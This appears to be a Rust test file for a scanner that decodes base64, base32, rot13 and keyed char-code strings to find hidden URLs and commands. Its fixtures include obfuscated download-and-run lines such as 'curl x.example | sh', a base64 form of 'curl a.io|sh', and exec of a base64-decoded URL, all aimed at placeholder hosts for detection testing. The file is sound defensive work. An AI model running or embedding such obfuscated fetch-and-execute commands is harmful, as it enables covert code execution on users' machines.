//! Edges of the decoders that a whole-file mutation sweep found unpinned
//! (#27, session 23): each alphabet and bit of base32, rot13 of both
//! cases, the keys that make char codes read a URL or a command, UTF-16LE
//! narrowed, the share of printable bytes in text, which base64 words are
//! literals, and how many literals a body has decoded and how far below a
//! decoding line its result is used.

use super::*;
use crate::scan::Severity::{High, Medium};

const URL_B64: &str = "aHR0cHM6Ly94LmV4YW1wbGUvcA==";

/// The body's findings of `id`, as (1-based line, severity).
fn found(body: &str, id: &str) -> Vec<(usize, Severity)> {
    crate::scan::Scanner::standard()
        .scan(body)
        .findings
        .iter()
        .filter(|f| f.rule_id == id)
        .map(|f| (f.line, f.severity))
        .collect()
}

#[test]
fn rot13_turns_every_letter_of_both_cases_and_nothing_else() {
    let turned: String =
        "abcdefghijklmnopqrstuvwxyz ABCDEFGHIJKLMNOPQRSTUVWXYZ 0-9".chars().map(rot13).collect();
    assert_eq!(turned, "nopqrstuvwxyzabcdefghijklm NOPQRSTUVWXYZABCDEFGHIJKLM 0-9");
}

#[test]
fn base32_reads_each_letter_and_digit_of_its_alphabet() {
    // RFC 4648's test vectors: every length of a last group.
    for (encoded, plain) in [
        ("MY", "f"),
        ("MZXQ", "fo"),
        ("MZXW6", "foo"),
        ("MZXW6YQ", "foob"),
        ("MZXW6YTB", "fooba"),
        ("MZXW6YTBOI", "foobar"),
        // `2`-`7` are 26-31; `Z` is 25.
        ("GEZDGNBVGY3TQOJQ", "1234567890"),
        ("PJ5HU", "zzz"),
        ("77777777", "\u{ff}\u{ff}\u{ff}\u{ff}\u{ff}"),
    ] {
        let want: Vec<u8> = plain.chars().map(|c| c as u8).collect();
        assert_eq!(base32(encoded.as_bytes()), want, "{encoded}");
    }
    // A byte out of the alphabet ends it.
    assert_eq!(base32(b"MZXW6!MZXW6"), b"foo");
}

#[test]
fn keys_are_those_that_make_the_codes_read_what_is_wanted() {
    let codes = |s: &str, f: &dyn Fn(u32) -> u32| s.bytes().map(|c| f(u32::from(c))).collect::<Vec<u32>>();
    assert_eq!(keys_reading(&codes("://", &|c| c ^ 5), 0, b"://"), [(true, 5)]);
    assert_eq!(keys_reading(&codes("://", &|c| c + 3), 0, b"://"), [(false, -3)]);
    assert_eq!(keys_reading(&codes("://", &|c| c - 4), 0, b"://"), [(false, 4)]);
    // Read as they are, with no key: none.
    assert_eq!(keys_reading(&codes("://", &|c| c), 0, b"://"), []);
    // From an offset, and up to the last codes but not past them.
    assert_eq!(keys_reading(&codes("x://", &|c| c ^ 7), 1, b"://"), [(true, 7)]);
    assert_eq!(keys_reading(&codes("x://", &|c| c ^ 7), 2, b"://"), []);
    // Three codes of which only the first reads under the key.
    assert_eq!(keys_reading(&codes(":ab", &|c| c ^ 5), 0, b"://"), []);
}

#[test]
fn char_codes_under_a_key_read_a_url_or_a_command() {
    let codes = |s: &str, f: &dyn Fn(u32) -> u32| s.bytes().map(|c| f(u32::from(c))).collect::<Vec<u32>>();
    let url = "https://x.example/p";
    assert_eq!(keyed(&codes(url, &|c| c ^ 7)).as_deref(), Some(url));
    assert_eq!(keyed(&codes(url, &|c| c + 3)).as_deref(), Some(url));
    let command = "curl x.example | sh";
    assert_eq!(keyed(&codes(command, &|c| c ^ 9)).as_deref(), Some(command));
    // Neither a URL nor a command under any key.
    assert_eq!(keyed(&codes("plain words here", &|c| c ^ 9)), None);
}

#[test]
fn utf16le_is_narrowed_only_when_every_high_byte_is_zero() {
    assert_eq!(narrow(b"c\0u\0r\0l\0").as_deref(), Some("curl"));
    assert_eq!(narrow(b"c\0u\0r\0l\0x").as_deref(), Some("curlx"));
    assert_eq!(narrow(b"c\x01u\0r\0l\0"), None);
}

#[test]
fn mixed_case_needs_both_cases() {
    assert!(mixed_case(b"aB"));
    assert!(!mixed_case(b"ab1"));
    assert!(!mixed_case(b"AB1"));
}

#[test]
fn text_is_four_bytes_or_more_of_mostly_printable_bytes() {
    assert_eq!(text(b"abc"), None);
    assert_eq!(text(b"abcd").as_deref(), Some("abcd"));
    assert_eq!(text(b"a b\tc\nd\r").as_deref(), Some("a b\tc\nd\r"));
    // Not UTF-8: 90 % printable is text, 89 % is not.
    let bytes = |printable: usize, other: usize| {
        let mut b = vec![b'a'; printable];
        b.extend(std::iter::repeat_n(0xff, other));
        b
    };
    assert!(text(&bytes(9, 1)).is_some(), "90 %");
    assert_eq!(text(&bytes(89, 11)), None, "89 %");
    // UTF-8: 60 % is text, 59 % is not (`é` is two bytes that are not ASCII).
    let utf8 = |printable: usize, accents: usize| format!("{}{}", "a".repeat(printable), "é".repeat(accents));
    assert!(text(utf8(60, 20).as_bytes()).is_some(), "60 %");
    let fifty_nine = format!("{}€{}", "a".repeat(59), "é".repeat(19));
    assert_eq!(fifty_nine.len(), 100);
    assert_eq!(text(fifty_nine.as_bytes()), None, "59 %");
    // At most MAX_DECODED bytes are kept.
    assert_eq!(text(&vec![b'a'; MAX_DECODED + 1]).map(|t| t.len()), Some(MAX_DECODED));
}

#[test]
fn a_base64_word_is_a_literal_when_it_mixes_cases_or_has_digits() {
    // Sixteen characters, the shortest: read.
    assert_eq!(decode_line("echo Y3VybCBhLmlvfHNo | base64 -d"), ["curl a.io|sh"]);
    // Mixed case and no digit: read.
    assert_eq!(decode_line("echo dGhlIHJlYWQgcmVhZCBtYWtl | base64 -d"), ["the read read make"]);
    // One case and no digit: a word, though it decodes to printable bytes.
    assert_eq!(decode_line("echo dkknczlrdqplayxi | base64 -d"), Vec::<String>::new());
    // A length no base64 has (4k + 1): not read.
    assert_eq!(decode_line("echo Y3VybCBhLmlvfHNoX | base64 -d"), Vec::<String>::new());
}

#[test]
fn a_plain_list_of_char_codes_is_read_from_eight_values() {
    // `curl x |` and `curl x` are no URL and no command under a key.
    assert_eq!(decode_line("c = [99, 117, 114, 108, 32, 120, 32, 124]"), ["curl x |"]);
    assert_eq!(decode_line("c = [99, 117, 114, 108, 32, 120, 32]"), Vec::<String>::new());
}

#[test]
fn decoded_text_that_is_neither_a_finding_nor_a_url_is_not_reported() {
    let body = "```bash\necho dGhlIHJlYWQgcmVhZCBtYWtl | base64 -d\n```\n";
    assert_eq!(found(body, "code.decoded-url"), []);
    assert_eq!(found(body, "code.decoded-payload"), []);
}

#[test]
fn at_most_thirty_two_literals_of_a_body_are_decoded() {
    // On the decoding lines.
    let on = format!(
        "```python\n{}```\n",
        format!("exec(base64.b64decode(\"{URL_B64}\"))\n").repeat(MAX_LITERALS + 1)
    );
    let lines: Vec<usize> = found(&on, "code.decoded-url").iter().map(|f| f.0).collect();
    assert_eq!(lines, (2..MAX_LITERALS + 2).collect::<Vec<_>>());
    // Above them.
    let pair = format!("p = \"{URL_B64}\"\nexec(base64.b64decode(p))\n{}", "\n".repeat(LOOKBACK_LINES));
    let above = format!("```python\n{}```\n", pair.repeat(MAX_LITERALS + 1));
    let lines: Vec<usize> = found(&above, "code.decoded-url").iter().map(|f| f.0).collect();
    let step = LOOKBACK_LINES + 2;
    assert_eq!(lines, (0..MAX_LITERALS).map(|k| 2 + k * step).collect::<Vec<_>>());
}

#[test]
fn a_use_five_lines_below_the_decoding_line_makes_a_url_high_and_six_below_not() {
    let body = |gap: usize| {
        format!("```bash\nU=$(echo {URL_B64} | base64 -d)\n```\n{}Then curl it.\n", "\n".repeat(gap - 2))
    };
    assert_eq!(found(&body(USE_LINES), "code.decoded-url"), [(2, High)]);
    assert_eq!(found(&body(USE_LINES + 1), "code.decoded-url"), [(2, Medium)]);
}

#[test]
fn a_send_or_a_use_further_down_the_block_makes_a_url_high() {
    let body = |below: &str| {
        format!(
            "```python\nu = base64.b64decode(\"{URL_B64}\").decode()\n{}{below}\n```\n",
            "x = 1\n".repeat(USE_LINES)
        )
    };
    assert_eq!(found(&body("img.src = u"), "code.decoded-url"), [(2, High)]);
    assert_eq!(found(&body("requests.get(u)"), "code.decoded-url"), [(2, High)]);
    assert_eq!(found(&body("print(u)"), "code.decoded-url"), [(2, Medium)]);
}

#[test]
fn only_a_powershell_fence_brings_the_char_arrays_of_its_block() {
    // `https://x.example/p` as char codes.
    let codes = "[char[]]@(104,116,116,112,115,58,47,47,120,46,101,120,97,109,112,108,101,47,112)";
    let fenced = format!("```powershell\n$u = -join {codes}\n```\n");
    assert_eq!(found(&fenced, "code.decoded-url").len(), 1, "{fenced}");
    // In a shell block, a line that runs `pwsh` brings nothing below it:
    // the array is text that `echo` prints.
    let shell = format!("```bash\npwsh -NoProfile -File build.ps1\necho '{codes}'\n```\n");
    assert_eq!(found(&shell, "code.decoded-url"), []);
}
